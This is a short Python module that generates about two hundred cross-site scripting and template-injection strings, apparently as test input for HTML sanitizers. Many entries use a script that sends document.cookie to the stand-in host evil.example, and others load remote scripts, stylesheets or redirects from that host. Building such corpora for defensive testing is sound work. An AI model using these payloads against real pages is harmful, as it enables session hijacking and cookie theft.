"""Two hundred texts that would run in a browser, or fetch something, if a page took them for its own."""

from itertools import cycle, product

EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe src=//evil.example", "a")
OPENINGS = ("<", '"><', "'><", "</title><", "</textarea><", "--><")
RUNS = "window.ran=1;fetch('//evil.example/'+document.cookie)"
PAYLOADS = [
    f'{opening}{tag} {event}="{RUNS}">'
    for (tag, event), opening in zip(product(TAGS, EVENTS), cycle(OPENINGS), strict=False)
]
PAYLOADS += [f"<script>{RUNS}</script>", "<script src=//evil.example/x.js></script>", f"javascript:{RUNS}"]
PAYLOADS += [
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{color:red}</style>",
]
PAYLOADS += ["<meta http-equiv=refresh content=0;url=//evil.example>", "{{ ''.__class__ }}{% raw %}", "${7*7}", "<!--"]
PAYLOADS += [f"<math><mtext><table><mglyph><style><img src=x onerror={number}>" for number in range(130)]
